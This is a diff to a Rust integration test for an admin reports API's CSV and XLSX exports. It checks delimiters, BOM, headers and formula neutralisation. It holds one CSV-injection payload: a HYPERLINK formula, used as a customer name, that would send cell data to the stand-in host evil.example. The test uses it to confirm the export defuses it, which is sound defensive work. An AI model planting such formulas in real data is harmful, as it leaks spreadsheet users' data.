@@ -1,5 +1,6 @@
 //! Reports end to end: each kind's rows match the orders the test made, the filters narrow them,
-//! and the CSV link downloads a file with the same rows.
+//! and the CSV link downloads a file with the same rows (a BOM first, `,` or `;`, formulas
+//! neutralised), the XLSX link a workbook with them.
 
 mod setup;
 mod support;
@@ -43,25 +44,66 @@ fn text(v: &Value) -> String {
     }
 }
 
-/// A CSV line split into cells (RFC 4180 quotes).
-fn csv_cells(line: &str) -> Vec<String> {
-    let mut cells = Vec::new();
-    let mut cur = String::new();
-    let mut quoted = false;
-    let mut chars = line.chars().peekable();
-    while let Some(c) = chars.next() {
-        match (c, quoted) {
-            ('"', true) if chars.peek() == Some(&'"') => {
-                cur.push('"');
-                chars.next();
-            }
-            ('"', _) => quoted = !quoted,
-            (',', false) => cells.push(std::mem::take(&mut cur)),
-            (c, _) => cur.push(c),
-        }
+/// A customer name a spreadsheet would run as a formula (CSV injection), with the `;` and
+/// quotes that semicolon CSVs must quote.
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Ben Muster\")";
+
+/// What a JSON cell must read as in a downloaded CSV: the text, with a leading `'` when it
+/// starts like a formula and is not a plain number (openapi.yaml's rule, written again here).
+fn csv_text(v: &Value) -> String {
+    let t = text(v);
+    let digits = t.strip_prefix('-').unwrap_or(&t);
+    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
+    let number = !int.is_empty()
+        && !frac.is_empty()
+        && int.bytes().chain(frac.bytes()).all(|b| b.is_ascii_digit());
+    if t.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number {
+        format!("'{t}")
+    } else {
+        t
     }
-    cells.push(cur);
-    cells
+}
+
+/// A report file through its link: the body, its Content-Type and Content-Disposition.
+async fn download(stack: &Stack, path: &str) -> (Vec<u8>, String, String) {
+    let (status, link) = stack.get(path, Some(&stack.admin_token)).await;
+    assert_eq!(status, 200, "{path}: {link}");
+    let url = link["url"].as_str().expect("url");
+    assert!(url.contains("/reports/"), "{url}");
+    assert!(link["expiresAt"].is_string());
+    let resp = stack.http().get(url).send().await.expect("download");
+    assert_eq!(resp.status().as_u16(), 200, "{path}");
+    let header = |name: &str| {
+        resp.headers()
+            .get(name)
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or_default()
+            .to_string()
+    };
+    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
+    let body = resp.bytes().await.expect("the file").to_vec();
+    (body, content_type, disposition)
+}
+
+/// A downloaded CSV read with the csv crate: its BOM checked and dropped, header and rows.
+fn read_csv(body: &[u8], delimiter: u8) -> (Vec<String>, Vec<Vec<String>>) {
+    let rest = body
+        .strip_prefix(b"\xEF\xBB\xBF".as_slice())
+        .expect("a UTF-8 BOM first");
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(delimiter)
+        .from_reader(rest);
+    let header = reader
+        .headers()
+        .expect("a header")
+        .iter()
+        .map(str::to_string)
+        .collect();
+    let rows = reader
+        .records()
+        .map(|r| r.expect("a CSV row").iter().map(str::to_string).collect())
+        .collect();
+    (header, rows)
 }
 
 #[tokio::test]
@@ -85,7 +127,7 @@ async fn every_report_matches_the_orders_made_and_its_csv_has_the_same_rows() {
             &world.marketplace,
             order_for(
                 "ben@example.com",
-                "Ben Muster",
+                FORMULA_NAME,
                 "rep-2",
                 json!([{"lineId": "L1", "sku": "THROW-WOOL", "quantity": 3, "unitPrice": "30.00"}]),
                 "90.00",
@@ -303,29 +345,88 @@ async fn every_report_matches_the_orders_made_and_its_csv_has_the_same_rows() {
     );
     assert_eq!(acme[0]["month"], month);
 
-    // Every kind as CSV: the link downloads the same rows, same columns.
+    // Every kind as CSV, with `,` and with `;`: the link downloads the same rows, same
+    // columns, read back by the csv crate; a formula in a name arrives neutralised.
     for kind in KINDS {
         let path = format!("/admin/reports/{kind}?{range}");
         let items = report(&stack, &path).await;
-        let (status, link) = stack.get(&format!("{path}&format=csv"), admin).await;
-        assert_eq!(status, 200, "{kind}: {link}");
-        let url = link["url"].as_str().expect("url");
-        assert!(url.contains("/reports/"), "{url}");
-        assert!(link["expiresAt"].is_string());
-        let resp = stack.http().get(url).send().await.expect("download");
-        assert_eq!(resp.status().as_u16(), 200, "{kind}");
-        let body = resp.text().await.expect("CSV text");
-        let mut lines = body.lines();
-        let header = csv_cells(lines.next().expect("header"));
-        let csv_rows: Vec<Vec<String>> = lines.map(csv_cells).collect();
-        assert_eq!(csv_rows.len(), items.len(), "{kind}: {body}");
-        for (row, item) in csv_rows.iter().zip(&items) {
-            let obj = item.as_object().expect("row object");
-            assert_eq!(header.len(), obj.len(), "{kind}: {header:?} vs {item}");
-            for (col, cell) in header.iter().zip(row) {
-                assert_eq!(*cell, text(&item[col]), "{kind}.{col}");
+        for (query, delimiter) in [("", b','), ("&delimiter=semicolon", b';')] {
+            let (body, content_type, disposition) =
+                download(&stack, &format!("{path}&format=csv{query}")).await;
+            assert_eq!(content_type, "text/csv; charset=utf-8", "{kind}");
+            assert_eq!(disposition, format!("attachment; filename=\"{kind}.csv\""));
+            let (header, csv_rows) = read_csv(&body, delimiter);
+            let first_line = body.split(|b| *b == b'\n').next().unwrap_or_default();
+            assert_eq!(
+                first_line.iter().filter(|b| **b == delimiter).count() + 1,
+                header.len(),
+                "{kind}: the header is split by {}",
+                delimiter as char
+            );
+            assert_eq!(csv_rows.len(), items.len(), "{kind}{query}");
+            for (row, item) in csv_rows.iter().zip(&items) {
+                let obj = item.as_object().expect("row object");
+                assert_eq!(header.len(), obj.len(), "{kind}: {header:?} vs {item}");
+                for (col, cell) in header.iter().zip(row) {
+                    assert_eq!(*cell, csv_text(&item[col]), "{kind}{query}.{col}");
+                }
             }
         }
+    }
+    let customers = report(&stack, &format!("/admin/reports/customers?{range}")).await;
+    assert!(
+        customers.iter().any(|c| c["name"] == FORMULA_NAME),
+        "the JSON keeps the name as it is: {customers:?}"
+    );
+    let (body, _, _) = download(
+        &stack,
+        &format!("/admin/reports/customers?{range}&format=csv&delimiter=semicolon"),
+    )
+    .await;
+    let (header, csv_rows) = read_csv(&body, b';');
+    let name = header
+        .iter()
+        .position(|h| h == "name")
+        .expect("a name column");
+    assert!(
+        csv_rows
+            .iter()
+            .any(|r| r[name] == format!("'{FORMULA_NAME}")),
+        "{csv_rows:?}"
+    );
+
+    // XLSX: a workbook that opens (a zip with the sheet), the name as text, money as numbers.
+    let (body, content_type, disposition) = download(
+        &stack,
+        &format!("/admin/reports/customers?{range}&format=xlsx"),
+    )
+    .await;
+    assert_eq!(
+        content_type,
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    );
+    assert_eq!(disposition, "attachment; filename=\"customers.xlsx\"");
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(body)).expect("an XLSX zip");
+    let mut part = |name: &str| {
+        let mut xml = String::new();
+        std::io::Read::read_to_string(&mut zip.by_name(name).expect(name), &mut xml)
+            .expect("XML text");
+        xml
+    };
+    let sheet = part("xl/worksheets/sheet1.xml");
+    let strings = part("xl/sharedStrings.xml");
+    assert!(part("xl/workbook.xml").contains("<sheet name=\"customers\""));
+    assert!(!sheet.contains("<f>"), "no formula in {sheet}");
+    assert!(
+        strings.contains("=HYPERLINK(\"http://evil.example/?\"&amp;A1;\"Ben Muster\")"),
+        "{strings}"
+    );
+    for c in &customers {
+        let total: f64 = text(&c["total"]).parse().expect("a money string");
+        assert!(
+            sheet.contains(&format!("<v>{total}</v>")),
+            "{total} in {sheet}"
+        );
     }
 
     // Admins only; bad input is refused with the field.
@@ -334,7 +435,9 @@ async fn every_report_matches_the_orders_made_and_its_csv_has_the_same_rows() {
     let (status, _) = stack.get("/admin/reports/sales", None).await;
     assert_eq!(status, 401);
     for (path, field) in [
-        ("/admin/reports/sales?format=xlsx", "format"),
+        ("/admin/reports/sales?format=pdf", "format"),
+        ("/admin/reports/sales?format=csv&delimiter=tab", "delimiter"),
+        ("/admin/reports/sales?format=csv&delimiter=%3B", "delimiter"),
         ("/admin/reports/sales?from=2026-02-30", "from"),
         ("/admin/reports/orders?from=2025-01-01&to=2026-06-01", "to"),
         ("/admin/reports/stock?country=XX", "country"),
